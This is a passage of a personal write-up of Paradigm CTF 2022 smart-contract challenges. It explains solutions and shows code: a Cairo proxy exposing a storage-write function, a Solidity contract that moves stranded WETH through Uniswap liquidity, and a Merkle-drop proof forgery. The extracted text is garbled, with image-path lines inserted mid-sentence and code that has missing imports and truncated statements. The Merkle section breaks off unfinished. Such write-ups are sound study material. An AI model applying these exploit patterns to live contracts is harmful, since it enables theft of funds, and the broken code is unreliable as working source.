My Paradigm CTF 2022 Solutions

My Paradigm CTF 2022 Results

Paradigm CTF is an online competition for smart contract hackers organized by Paradigm, an investment fund that supports Web3 and crypto companies. The competition consists of multiple challenges created by brightest minds of the field. The goal in each challenge is to hack a smart contract or to find another, absolutely non- obvious, way of solving it.

This year, the CTF had 23 challenges. I solved 7 of them, got 1,379 points, and ended up 38th out of ~100.

Solved challenges:

Sanity Checks

This year, there were challenges for different platforms: EVM, Solana, Cairo. Each of the platforms had multiple challenges with different difficulty levels. The easiest ones were tagged “sanity check”


I’m thinking of a number between 4 and 4

The entry-level EVMchallenge. You needed to call solve with a “random” number generated by a contract. The number was 4.


What walks on four legs in the morning, two legs in the afternoon, three legs in the evening, and no legs at night?

The entry-level Cairo challenge. You needed to find the answer to the riddle in the description and set it in a contract. The challenge contract had a storage variable and a setter for it, so you just needed to call the setter and pass the correct answer.

The challenge contract:%lang starknet

from starkware.cairo.common.cairo_builtins import HashBuiltin

func _solution() -> (res : felt):

func solve{
    syscall_ptr : felt*,
    pedersen_ptr : HashBuiltin*,
}(solution : felt):
    return ()

func solution{
    syscall_ptr : felt*,
    pedersen_ptr : HashBuiltin*,
}() -> (solution : felt):
    let (solution) =
    return (solution)

My solution in Python using

import sys
from import AccountClient, KeyPair
from import GatewayClient
from import TESTNET
from starknet_py.contract import Contract
from import StarknetChainId
from starkware.crypto.signature.signature import private_to_stark_key
from starkware.starknet.core.os.contract_address.contract_address import calculate_contract_address_from_hash

prvkey=int(sys.argv[3], 16)
pair=KeyPair(private_key=prvkey, public_key=pubkey)

client = GatewayClient(sys.argv[1], TESTNET)
acc = AccountClient(addr, client=client, key_pair=pair, chain=StarknetChainId.TESTNET)
c = Contract.from_address_sync(sys.argv[2], acc)c.functions["solve"].invoke_sync("man", max_fee=0)

The right answer could be found in one of the files provided with the challenge.


Otter World!

This is the sanity check level for Solana. The challenge consisted of two Solana programs: “challenge” and “solve”. The former was the actual challenge and the latter was used to solve it. The challenge program was a one-function program that required a certain input value, which was just 0x1337 * 0x7331:

pub mod chall {
    use super::*;

    pub fn get_flag(_ctx: Context<GetFlag>, magic: u64) -> Result<()> {
        assert!(magic == 0x1337 * 0x7331);So to solve the challenge I only needed to update the “solve” program to send the correct input:

chall::cpi::get_flag(cpi_ctx, 0x8a56287)?;


Just a simple proxy contract

This is the level 2 challenge in Cairo. It implement the classic Proxy pattern from Solidity/EVM: there’s a facade contract that stores data and that uses implementation from another contract. The implementation contract is an ERC20-like contract that had some amount of tokens minted (50,000e18) and distributed to non user owneraddresses (1337 and 7331). The goal was to get 50,000e18 of tokens on your balance.

At first, I noticed that the ERC20 was deployed, which is not required in Cairo: you shouldn’t deploy implementation contracts in Cairo and should instead use contract’s “class hash”. The OpenZeppelin Cairo documentation was very helpful to figure this out. So, I called initialize on the ERC20 contract but this didn’t for an obvious reason: the two contracts use different data storages. We needed to have 50,000e18 tokens in the proxy contracts.

While scanning the source code, I noticed this piece in the proxy contract:

from utils import auth_read_storage
# Allow owner to read all the contract's state
func read_state{
        syscall_ptr : felt*,
        pedersen_ptr : HashBuiltin*,
    }(address : felt) -> (value : felt):
    let (owner_account) =
    let (value) = auth_read_storage(owner_account, address)
    return (value)

It imported a function from another file and used this function in a view method of the contract. In the utils file I saw this:# Helpers for auth users to interact with contract's storage
func auth_read_storage{
        syscall_ptr : felt*,
    }(auth_account : felt, address : felt) -> (value : felt):
    let (caller) = get_caller_address()

    assert caller = auth_account

    let (value) = storage_read(address=address)

    return (value=value)

func auth_write_storage{
        syscall_ptr : felt*,
    }(auth_account : felt, address : felt, value : felt):
    let (caller) = get_caller_address()

    assert caller = auth_account

    storage_write(address=address, value=value)

A-ha! So there’s also a write-to-storage function. It has @external decorator, which makes it a public method of a contract. However, it wasn’t used in the proxy contract. Or was it?

To dispel my doubts I called this:


And saw that auth_write_storage was part of the proxycontract! So, I needed to write 50,000e18 to my storage slot in the balances mapping:

storage_addr=get_storage_var_address("balances", acc.address)
proxy_contract.functions["auth_write_storage"].invoke_sync(acc.address, storage_addr, int(50000e18), max_fee=0)


I accidentally sent some WETH to a contract, can you help me?

This is a classic DeFi challenge, where you need to move the DeFi Legos around to achieve a goal.

Someone sent some WETH to a contract and you need to find a way how to move them away from the contract. Luckily, the contract provides a way:

function _addLiquidity(address token0, address token1, uint256 minAmountOut) internal {
    (,, uint256 amountOut) = router.addLiquidity(
    require(amountOut >= minAmountOut);

You can trigger it to provide liquidity to a Uniswap V2 pool. This is the goal, and you need to find the series of steps that gets you there. In other words, you need to know what’s required to add liquidity to a Uniswap V2 pool.

The steps I discovered:1. Buy 10 ether worth of USDC and send them to MasterChefHelper. We need exactly this amount because, when providing liquidity in Uniswap, the proportion of tokens must be 50/50. In my case, thats 10 WETH and an equal amount of USDC.
  2. Buy some amount of USDT. We need it to trigger swapTokenForPoolToken in MasterChefHelper. The function takes our USDT, splits them, buys equal amount of WETH and USDC (I used poolId 1), and adds them as liquidity to a Uniswap pool.
  3. When MasterChefHelper calls router.addLiquidity, it tells the pool to take all its tokens, including the initial 10 WETH and our USDC.
  4. Done!

My solution:

contract RescueSolve {
    UniswapV2RouterLike public constant router =

    WETH9 public constant weth =

    ERC20Like public constant usdc =

    ERC20Like public constant usdt =

    IPair constant pair = IPair(0xB4e16d0168e52d35CaCD2c6185b44281Ec28C9Dc); // USDC-WETHIPair constant pair2 = IPair(0x0d4a11d5EEaaC28EC3F61d100daF4d40471f1852); // USDT-WETH

    constructor() payable {}

    function solve(address mcHelper) public {
        (uint112 reserveUSDC, uint112 reserveWETH, ) = pair.getReserves();
        uint256 usdcAmount = router.getAmountOut(
            10 ether,
        weth.deposit{value: 10 ether}();
        weth.transfer(address(pair), 10 ether);
        pair.swap(usdcAmount, 0, mcHelper, "");

        (uint112 reserveWETH2, uint112 reserveUSDT, ) = pair2.getReserves();
        uint256 usdtAmount = router.getAmountOut(
            1 ether,
        weth.deposit{value: 1 ether}();
        weth.transfer(address(pair2), 1 ether);
        pair2.swap(0, usdtAmount, address(this), "");

        usdt.approve(mcHelper, usdt.balanceOf(address(this)));


Were you whitelisted?

Merkledrop is a popular technique of airdropping tokens. It requires building a Merkle tree where leaves store information about user addresses and amounts of tokens they’re eligible for. Leaves are then grouped in pairs and hashed. Their hashes are grouped in pairs and hashed again, and so on until there’s one root hash. Such a tree can be disclosed to anyone, and still there’s no risk of modifying its data: the consistency is guaranteed by hashing. It’s also easy to prove that you’re eligible for an airdrop:

  1. There needs to be a leaf with your address and amount.2. You need to provide the path from your leaf to the root hash. Specifically, you’ll need to proved the other hashes in each of the pairs on each level of the tree.

In this challenge, you get:

  1. MerkleDistributor contract that handles the claiming logic: it takes index, account, amount, and an array of proofs from users, verifies them, keeps record of claimed tokens (indexes), and releases tokens. A drop can be claimed only once.
  2. MerkleProof contract that actually verifies proofs.
  3. tree.json with a Merkle tree containing 64 leaves (tuples of: index, account, amount, and proof array).

The goal is to claim all the tokens (75,000e18) and have some of the leaves unclaimed. And it doesn’t seem like an achievable goal, after scanning the code and claiming the whole tree. Merkle trees are almost not hackable and the contractslook absolutely solid: exact same contracts were used by many projects, like Uniswap and 1Inch. However, there was a small change:

// MerkleDistributor
function claim(uint256 index, address account, uint96 amount, bytes32[] memory merkleProof) external {
    bytes32 node = keccak256(abi.encodePacked(index, account, amount));

amount is uint96. So what?

When getting node: index is uint256, account is address, amount is uint96. This makes 64 bytes, and 64 is a good number.If we look in MerkleProof again:

// MerkleProof
if (computedHash < proofElement) {
  // Hash(current computed hash + current element of the proof)
  computedHash = keccak256(abi.encodePacked(computedHash, proofElement));
} else {
  // Hash(current element of the proof + current computed hash)
  computedHash = keccak256(abi.encodePacked(proofElement, computedHash));

It concatenates two hashes (each is 32 bytes) and hashes them. So inputs to keccak256 here are also 64 bytes long.

What if… No, just what if one of the leaves is a… hash?

I took all the leaves and packed them like they’re packed with abi.encodePacked before hashing in claimfunction:

Merkledrop leavespacked

Imagine that each of these sequences is what’s hashed in MerkleProof, i.e. left 32 bytes is one hash and right 32bytes is another. However, hashes with many leading zeros are almost impossible and they don’t look like real hashes. The right 32 bytes look more like hashes. Also notice that each of them has multiple 00 bytes in about the same position–this is due to uint96 amounts being padded. What if there’s a proof in tree.json that has a similar padding?

Leaf 37 has this proof:


Don’t tell me this is a coincidence. 😂 The last 12 bytes (uint96) is 00000f40f0c122ae08d2207b, which is 72033437049132565012603 in the decimal system, or 72033.437049132565012603 tokens (with 18 decimals):

$ cast --to-dec 00000f40f0c122ae08d2207b| cast --from-wei

Which is less than the total amount of tokens in the tree (75,000).

Don’t. Tell. Me. This. Is. A. Coincidence.

Now, if we subtract this amount from 75,000e18:


And convert it to hex:

$ cast --to-hex 2966562950867434987397

And try to find this number in tree.json:

8 "0x249934e4C5b838F920883a9f3ceC255C0aB3f827" "0xa0d154c64a300ddf85"  ...Too many coincidences!

So, what do we do?

We will make the first proof in the list of proofs of leaf 37 a leaf itself.

We can pass the proof with multiple 00 as the second half of the input to node in claim function:

  1. 0xd48451c19959e2d9bd4e620fbe88aa5f6f7ea72a would be an address,
  2. 0x00000f40f0c122ae08d2207b would be an amount.

But we need the index. And it cannot be an arbitrary number because it’s hashed with the address and the amount, and the resulting hash is hashed with the other proofs. But remember that proofs are concatenated and that the index is also concatenated with the address and the amount.

